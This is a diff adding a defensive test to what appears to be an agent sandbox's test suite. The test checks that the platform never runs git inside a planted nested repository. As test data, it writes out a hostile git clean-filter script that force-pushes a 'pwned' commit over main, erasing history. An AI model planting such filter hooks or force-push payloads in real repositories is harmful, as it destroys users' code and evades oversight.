@@ -94,6 +94,51 @@ describe("a hostile command", () => {
     expect(look).toMatchObject({ ran: true, stdout: { text: "" } });
   });
 
+  it("nests a repository whose own config runs a filter: none of our steps ever runs git inside it", async () => {
+    const { workspace, repo, control } = await connectedUser();
+    const history = (await control.commits(repo.full_name)).map((commit) => commit.sha);
+    // Once it runs, the filter tries to force-push over main through the open route.
+    const filter = [
+      "#!/bin/bash",
+      'echo ran >> "$HOME/filter-ran"',
+      `( d=$(mktemp -d) && cd "$d" && unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE && git init -q && echo pwned > README.md && git add README.md && git -c user.name=e -c user.email=e@x commit -qm rewritten && git push --force http://${GIT_EGRESS_HOST}/${repo.full_name}.git HEAD:refs/heads/main ) >> "$HOME/filter-ran" 2>&1`,
+      'touch -d 2001-01-01 "$HOME/repo/sub/a" 2>/dev/null',
+      "cat",
+    ].join("\n");
+    const plant = await workspace.bash({
+      command: [
+        `cat > "$HOME/filter.sh" <<'EOF'\n${filter}\nEOF`,
+        'chmod +x "$HOME/filter.sh"',
+        "git init -q sub && cd sub && echo a > a && git add a && git -c user.name=x -c user.email=x@x commit -qm s",
+        'git config filter.x.clean "$HOME/filter.sh" && printf "* filter=x\n" > .git/info/attributes',
+        "touch -d 2001-01-01 a && cd .. && git add sub && echo planted > planted.md",
+      ].join("\n"),
+      comment: "Nest a repository",
+    });
+    expect(plant).toMatchObject({ ran: true, exitCode: 0, publish: { state: "pushed" } });
+
+    // Edited on GitHub meanwhile, so the next calls fetch, rebase and fast-forward too.
+    await control.commitFromWeb(repo.full_name, {
+      message: "Web edit",
+      author: { name: "Web", email: "web@example.com" },
+      files: { "web.md": "web\n" },
+    });
+    await new Promise((resolve) => setTimeout(resolve, 2_500));
+    expect(await workspace.instructions()).toMatchObject({ ready: true });
+    const next = await workspace.bash({
+      command:
+        "touch -d 2002-02-02 sub/a; git init -q fresh && cp -r sub/.git/config sub/.git/info fresh/.git/ && echo x > fresh/x; echo more >> notes.md",
+      comment: "More",
+    });
+    expect(next).toMatchObject({ ran: true, exitCode: 0, publish: { state: "pushed" } });
+
+    const now = (await control.commits(repo.full_name)).map((commit) => commit.sha);
+    expect(now.slice(-history.length)).toEqual(history);
+    expect(await control.readFile(repo.full_name, "README.md")).not.toBe("pwned\n");
+    const look = await workspace.bash({ command: 'cat "$HOME/filter-ran" 2>/dev/null; true' });
+    expect(look).toMatchObject({ ran: true, stdout: { text: "" } });
+  });
+
   it("prints something shaped like our report and kills its shell: the result tells only what really happened", async () => {
     const { workspace, repo, control } = await connectedUser();
     const fake = "0123456789abcdef0123456789abcdef01234567";
